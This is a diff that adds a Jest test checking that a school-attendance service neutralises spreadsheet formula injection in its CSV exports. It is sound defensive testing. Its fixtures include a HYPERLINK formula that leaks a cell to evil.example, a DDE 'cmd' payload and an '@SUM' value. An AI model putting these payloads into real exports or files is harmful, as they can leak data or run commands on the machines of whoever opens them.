@@ -1,0 +1,82 @@
+// Values that reach the service from outside and could hurt it or its users: names that a spreadsheet would run as
+// formulas (neutralised in every export).
+import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
+import { parse } from 'csv-parse/sync';
+import type { SchoolOverview } from '../../server/src/api-contract.js';
+import { todayInLondon } from '../../server/src/common/dates.js';
+import { post, settled, startServer, type TestServer } from '../support/server.js';
+
+const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
+// gias-small.csv's columns; three Camden primaries, two of them named by someone hostile.
+const GIAS = [
+  'URN,LA (code),LA (name),EstablishmentName,TypeOfEstablishment (name),EstablishmentStatus (name),' +
+    'PhaseOfEducation (name),NumberOfPupils,PercentageFSM,Trusts (code),Trusts (name),LSOA (code),MSOA (code),' +
+    'OfstedLastInsp',
+  `930001,202,Camden,"${FORMULA.replaceAll('"', '""')}",Academy converter,Open,Primary,10,100,` +
+    "TR09,+cmd|' /C calc'!A0,E01000907,E02000166,01-01-2016",
+  '930002,202,Camden,@SUM(1+1),Community school,Open,Primary,10,50,,,E01000907,E02000166,01-01-2024',
+  '930003,202,Camden,Plain Primary,Community school,Open,Primary,10,0,,,E01000907,E02000166,',
+].join('\n');
+
+/** Ten pupils a school for one day; 5, 2 and 0 of them absent in the morning, so the scores differ in sign. */
+function register(date: string): string {
+  const rows = ['urn,upn,date,session,code,year_group,sex,fsm,sen'];
+  for (const [urn, absent] of [[930001, 5], [930002, 2], [930003, 0]]) {
+    for (let i = 1; i <= 10; i++) {
+      const pupil = `${urn},H${urn}x${i},${date}`;
+      rows.push(`${pupil},AM,${i <= absent ? 'I' : '/'},4,F,N,N`, `${pupil},PM,/,4,F,N,N`);
+    }
+  }
+  return `${rows.join('\n')}\n`;
+}
+
+let server: TestServer;
+
+async function csv(path: string, token: string): Promise<Record<string, string>[]> {
+  const response = await fetch(`${server.url}${path}`, { headers: { authorization: `Bearer ${token}` } });
+  expect(response.status).toBe(200);
+  return parse(await response.text(), { columns: true }) as Record<string, string>[];
+}
+
+beforeAll(async () => {
+  server = await startServer();
+  expect((await post(server, '/api/v1/reference/schools', GIAS, server.token('admin'))).status).toBe(201);
+  const submitted = await post(server, '/api/v1/submissions', register(todayInLondon()), server.token('submitter'));
+  expect(submitted.status).toBe(202);
+  await settled(server);
+}, 90_000);
+
+afterAll(() => server?.stop());
+
+describe('names a spreadsheet would run as formulas', () => {
+  it('are stored and answered as JSON as they were sent', async () => {
+    const headers = { authorization: `Bearer ${server.token('dfe')}` };
+    const response = await fetch(`${server.url}/api/v1/schools/930001/overview`, { headers });
+    const { school } = (await response.json()) as SchoolOverview;
+    expect(school).toMatchObject({ name: FORMULA, trustName: "+cmd|' /C calc'!A0" });
+  });
+
+  it('are quoted in the EES export; its figures stay numbers', async () => {
+    const rows = await csv('/api/v1/export/attendance.csv?level=school&la=202', server.token('dfe'));
+    const byUrn = new Map(rows.map((r) => [r.school_urn, r]));
+    expect(byUrn.get('930001')!.school_name).toBe(`'${FORMULA}`);
+    expect(byUrn.get('930002')!.school_name).toBe("'@SUM(1+1)");
+    expect(byUrn.get('930003')!.school_name).toBe('Plain Primary');
+    expect(byUrn.get('930001')!.overall_absence_perc).toMatch(/^\d+(\.\d+)?$/);
+  });
+
+  it('are quoted in the inspection priorities; negative contributions stay numbers', async () => {
+    const rows = await csv('/api/v1/inspection/priorities.csv', server.token('ofsted'));
+    expect(rows.map((r) => r.school).sort()).toEqual([`'${FORMULA}`, "'@SUM(1+1)", 'Plain Primary']);
+    const parts = Object.keys(rows[0]).filter((k) => k.endsWith('_contribution'));
+    const contributions = rows.flatMap((r) => parts.map((k) => r[k]));
+    expect(contributions.some((v) => v.startsWith('-'))).toBe(true);
+    for (const value of contributions) expect(value).toMatch(/^-?\d+\.\d{3}$/);
+  });
+
+  it('leave the pupils export as it was (nothing in it starts a formula)', async () => {
+    const rows = await csv('/api/v1/schools/930001/pupils.csv', server.token('school', ['930001']));
+    expect(rows).toHaveLength(10);
+    expect(rows.every((r) => /^H930001x\d+$/i.test(r.upn))).toBe(true);
+  });
+});
